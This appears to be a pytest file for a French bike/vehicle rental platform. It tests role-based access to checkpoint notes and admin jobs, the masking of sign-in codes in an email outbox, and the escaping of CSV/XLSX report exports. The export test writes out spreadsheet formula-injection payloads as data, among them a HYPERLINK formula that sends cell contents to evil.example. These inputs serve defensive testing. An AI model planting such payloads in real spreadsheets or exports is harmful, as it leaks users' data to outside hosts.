"""Items 4 and 5 of issue 14: least privilege (checkpoint notes, scheduled jobs, sign-in codes
in the outbox) and exports that a spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import openpyxl
from sqlalchemy import func, select

from fleet.models import Site
from mobility.core.dates import local_today
from mobility.core.db import db
from mobility.notifications.models import OutboxMessage
from mobility.notifications.outbox import send_due_messages
from mobility.portal import services as portal
from mobility.portal.delivery import send_code
from mobility.portal.models import OneTimeCode
from mobility.scheduling.models import JobRun
from tests.factories import (
    api_token,
    bearer,
    create_amie_beneficiary,
    create_money_rental,
    create_platform,
    create_user,
    csrf_token_from,
    login,
)
from tests.notifications.servers import notify_config, smtp_server  # noqa: F401
from tests.reports.year import END, START, create_year

MONDAY = date(2026, 3, 2)
PRIVATE = {"note", "exit_solution", "payment", "arrears_cents", "microcredit_proposed",
           "sent_to_referent"}


def test_fleet_managers_do_not_read_the_advisors_checkpoint_notes(app, client):
    advisor = create_user("advisor")
    manager = create_user("fleet_manager", platform=advisor.platform)
    rental = create_money_rental(advisor.platform, kind="bike")
    created = client.post(f"/api/v1/rentals/{rental.id}/checkpoints", json={
        "date": (MONDAY + timedelta(days=7)).isoformat(), "odometer_km": 10040,
        "payment": {"amount_cents": 700, "method": "cash"}, "condition": {"brakes": True},
        "note": "Difficultés familiales, suivi renforcé", "exit_solution": "Vélo d'occasion"},
        headers=bearer(api_token(client, advisor)))
    assert created.status_code == 201, created.get_json()
    seen_by_advisor = client.get(f"/api/v1/rentals/{rental.id}/checkpoints",
                                 headers=bearer(api_token(client, advisor))).get_json()
    assert seen_by_advisor[0]["note"] == "Difficultés familiales, suivi renforcé"
    response = client.get(f"/api/v1/rentals/{rental.id}/checkpoints",
                          headers=bearer(api_token(client, manager)))
    assert response.status_code == 200
    [checkpoint] = response.get_json()
    assert not PRIVATE & set(checkpoint)
    assert checkpoint["odometer_km"] == 10040 and checkpoint["condition"] == {"brakes": True}
    assert "Difficultés" not in response.get_data(as_text=True)


def test_a_platform_admin_sees_and_runs_only_their_platform_jobs(app, client):
    mine, other = create_platform(), create_platform()
    admin = create_user("admin", platform=mine)
    # an overdue rental on the other platform: its reminder must not be queued by our admin
    create_money_rental(other, start=local_today() - timedelta(days=40), days=10)
    login(client, admin)
    page = client.get("/admin/jobs").get_data(as_text=True)
    assert "rental_overdue" in page
    assert "send_outbox" not in page and "privacy_purge_audit_log" not in page
    token = csrf_token_from(page)
    ran = client.post("/admin/jobs/rental_overdue/run", data={"csrf_token": token})
    assert ran.status_code == 302
    assert db.session.scalar(select(func.count()).select_from(OutboxMessage)) == 0
    run = db.session.scalar(select(JobRun))
    assert run.platform_id == mine.id and run.summary == "0 nouvelle notification"
    # installation-wide jobs: not from a platform's page
    for job in ("send_outbox", "privacy_purge_audit_log", "prune_job_runs"):
        assert client.post(f"/admin/jobs/{job}/run", data={"csrf_token": token}
                           ).status_code == 404
    assert db.session.scalar(select(func.count()).select_from(JobRun)) == 1
    # the other platform's admin does not see our run
    other_admin = create_user("admin", platform=other)
    other_client = app.test_client()
    login(other_client, other_admin)
    assert "0 nouvelle notification" not in other_client.get("/admin/jobs").get_data(as_text=True)


def test_sign_in_codes_are_never_readable_in_the_outbox(app, client, smtp_server):  # noqa: F811
    notify_config(app, smtp=smtp_server)
    platform = create_platform()
    create_amie_beneficiary(platform, phone="07 00 00 00 00", email="ines@example.org",
                            birth_date=date(1994, 3, 2))
    admin = create_user("admin", platform=platform)
    sent = []

    def keep(beneficiary, code, channel):
        sent.append(code)
        send_code(beneficiary, code, channel)

    portal.request_code("ines@example.org", date(1994, 3, 2), send=keep)
    code = sent[0]
    message = db.session.scalar(select(OutboxMessage))
    assert code not in message.key
    login(client, admin)
    pending = client.get("/notifications/outbox").get_data(as_text=True)
    assert code not in pending  # a live code is never shown
    send_due_messages()
    db.session.expire_all()
    message = db.session.scalar(select(OutboxMessage))
    assert message.status == "sent"
    assert code in smtp_server[2].messages[0].get_body(("plain",)).get_content()  # received
    assert code not in str(message.context)  # masked once sent
    assert code not in client.get("/notifications/outbox").get_data(as_text=True)
    assert db.session.scalar(select(OneTimeCode)).matches(code)  # and the code still works


def test_report_cells_that_look_like_formulas_stay_text(app, client):
    year = create_year()
    for site in db.session.scalars(select(Site).where(Site.platform_id == year.platform.id)):
        site.name = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    year.organisations[0].name = "@SUM(1+1)"
    year.organisations[1].name = "\tTab+1"
    db.session.commit()
    admin = create_user("admin", year.platform)
    login(client, admin)
    period = f"start={START.isoformat()}&end={END.isoformat()}"
    raw = client.get(f"/reports/activity/export.csv?{period}").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";")
             for cell in row]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")" in cells
    assert "'@SUM(1+1)" in cells and "'\tTab+1" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not c[1:2].isdigit())]
    book = openpyxl.load_workbook(io.BytesIO(
        client.get(f"/reports/activity/export.xlsx?{period}").get_data()))
    texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    hyperlinks = [c for c in texts if "HYPERLINK" in c.value]
    assert hyperlinks and all(c.data_type == "s" for c in hyperlinks)
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
